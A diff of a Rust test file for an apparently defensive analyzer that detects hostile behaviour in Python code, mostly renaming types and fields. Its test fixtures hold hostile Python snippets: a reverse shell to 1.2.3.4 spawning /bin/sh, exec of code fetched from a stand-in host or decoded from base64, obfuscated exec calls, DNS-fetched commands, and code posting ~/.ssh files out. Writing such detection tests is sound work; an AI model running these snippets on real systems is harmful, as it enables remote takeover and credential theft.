@@ -1,19 +1,19 @@
 use super::*;
-use crate::act::{Code, Taint};
+use crate::act::{CodeOrigin, Taint};
 
 fn acts(text: &str) -> Acts {
     read(text).unwrap_or_else(|error| panic!("{error}: {text}"))
 }
 
-fn executes(text: &str) -> Option<Code> {
-    acts(text).seen.into_iter().find_map(|seen| match seen.act {
+fn executes(text: &str) -> Option<CodeOrigin> {
+    acts(text).located.into_iter().find_map(|seen| match seen.act {
         Act::Executes(code) => Some(code),
         _ => None,
     })
 }
 
 fn sends(text: &str) -> Taint {
-    let sent = acts(text).seen.into_iter().find_map(|seen| match seen.act {
+    let sent = acts(text).located.into_iter().find_map(|seen| match seen.act {
         Act::Network { sends, .. } if sends.is_secret() => Some(sends),
         _ => None,
     });
@@ -21,7 +21,7 @@ fn sends(text: &str) -> Taint {
 }
 
 fn inner(text: &str) -> Vec<String> {
-    acts(text).inner.into_iter().map(|inner| inner.text).collect()
+    acts(text).embedded.into_iter().map(|inner| inner.text).collect()
 }
 
 #[test]
@@ -54,24 +54,24 @@ fn logging_in_is_no_theft() {
 
 #[test]
 fn code_from_elsewhere() {
-    let fetched = Some(Code::Fetched("https://a.example/x".into()));
+    let fetched = Some(CodeOrigin::Fetched("https://a.example/x".into()));
     assert_eq!(
         executes("import requests\nexec(requests.get('https://a.example/x').text)"),
         fetched
     );
     assert_eq!(
         executes("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"),
-        Some(Code::Decoded)
+        Some(CodeOrigin::Decoded)
     );
     assert_eq!(
         executes("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJw=')))"),
-        Some(Code::Decoded)
+        Some(CodeOrigin::Decoded)
     );
     assert_eq!(
         executes("getattr(__import__('built' + 'ins'), 'ex' + 'ec')(input())"),
-        Some(Code::Computed)
+        Some(CodeOrigin::Computed)
     );
-    assert_eq!(executes("__builtins__['ex' + 'ec'](x)"), Some(Code::Computed));
+    assert_eq!(executes("__builtins__['ex' + 'ec'](x)"), Some(CodeOrigin::Computed));
     assert_eq!(executes("print('exec')"), None);
 }
 
@@ -98,7 +98,7 @@ fn constants_are_folded() {
 #[test]
 fn shells_for_others() {
     let text = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('1.2.3.4', 9))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])";
-    assert!(acts(text).seen.iter().any(|seen| seen.act == Act::ReverseShell));
+    assert!(acts(text).located.iter().any(|seen| seen.act == Act::ReverseShell));
 }
 
 #[test]
@@ -108,11 +108,11 @@ fn what_is_no_python() {
 }
 
 fn has(text: &str, wanted: &Act) -> bool {
-    acts(text).seen.iter().any(|seen| seen.act == *wanted)
+    acts(text).located.iter().any(|seen| seen.act == *wanted)
 }
 
 fn hosts(text: &str) -> Vec<(String, Vec<String>)> {
-    let network = acts(text).seen.into_iter().filter_map(|seen| match seen.act {
+    let network = acts(text).located.into_iter().filter_map(|seen| match seen.act {
         Act::Network { to, log_in, .. } => Some((to, log_in)),
         _ => None,
     });
@@ -174,10 +174,14 @@ fn files_keep_what_they_were_written_with() {
         "import requests\nopen('/tmp/h.py', 'w').write(requests.get('https://a.example/x').text)\nexec(open('/tmp/h.py').read())",
         "import socket, subprocess\ns = socket.socket()\ns.connect(('https://a.example/x', 1))\nsubprocess.run(s.recv(1024), shell=True)",
     ] {
-        assert_eq!(executes(text), Some(Code::Fetched("https://a.example/x".into())), "{text}");
+        assert_eq!(
+            executes(text),
+            Some(CodeOrigin::Fetched("https://a.example/x".into())),
+            "{text}"
+        );
     }
     let text = "import dns.resolver, os\ndef ask(n):\n    try:\n        return b''.join(dns.resolver.resolve(f'{n}.a.example', 'TXT')[0].strings).decode()\n    except ValueError:\n        return ''\ntask = ask('x')\nif task:\n    os.popen(task)";
-    assert_eq!(executes(text), Some(Code::Fetched("x.a.example".into())));
+    assert_eq!(executes(text), Some(CodeOrigin::Fetched("x.a.example".into())));
     for text in [
         "import requests, subprocess\nopen('data.json', 'w').write(requests.get('https://a.example/x').text)\nsubprocess.run(['jq', '.', 'data.json'])",
         "import requests, subprocess\nname = requests.get('https://a.example/x').json()['name']\nsubprocess.run(['git', 'checkout', name])",
@@ -189,13 +193,13 @@ fn files_keep_what_they_were_written_with() {
 
 #[test]
 fn functions_of_other_files_are_known() {
-    let mut memory = Memory::default();
+    let mut state = CrossFileState::default();
     let main = "from pathlib import Path\nimport store\nstore.save(Path.home() / '.ssh')";
     let store = "import requests\ndef save(folder):\n    for p in folder.iterdir():\n        requests.post('https://a.example', data=p.read_bytes())";
     for _ in 0..2 {
-        assert!(read_with(main, &mut memory).is_ok());
-        let found = read_with(store, &mut memory).unwrap_or_default();
-        let sent = found.seen.iter().any(
+        assert!(read_with(main, &mut state).is_ok());
+        let found = read_with(store, &mut state).unwrap_or_default();
+        let sent = found.located.iter().any(
             |seen| matches!(&seen.act, Act::Network { sends, .. } if sends.credential.is_some()),
         );
         assert!(sent);
@@ -205,7 +209,7 @@ fn functions_of_other_files_are_known() {
 #[test]
 fn places_are_named_once() {
     let text = "import os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nq = '~/.aws/credentials'";
-    let names = acts(text).seen.into_iter().filter(|seen| matches!(seen.act, Act::Names(_)));
+    let names = acts(text).located.into_iter().filter(|seen| matches!(seen.act, Act::Names(_)));
     assert_eq!(names.count(), 1);
     assert!(!has("'''Reads ~/.aws/credentials.'''", &Act::Names("AWS credentials")));
 }
@@ -259,12 +263,12 @@ fn calls_within_calls_end() {
 
 fn sends_private(text: &str) -> bool {
     let private = |act: &Act| matches!(act, Act::Network { sends, .. } if sends.private.is_some());
-    acts(text).seen.iter().any(|seen| private(&seen.act))
+    acts(text).located.iter().any(|seen| private(&seen.act))
 }
 
 fn talks_to(text: &str, host: &str) -> bool {
     let talks = |act: &Act| matches!(act, Act::Network { to, .. } if to.contains(host));
-    acts(text).seen.iter().any(|seen| talks(&seen.act))
+    acts(text).located.iter().any(|seen| talks(&seen.act))
 }
 
 #[test]
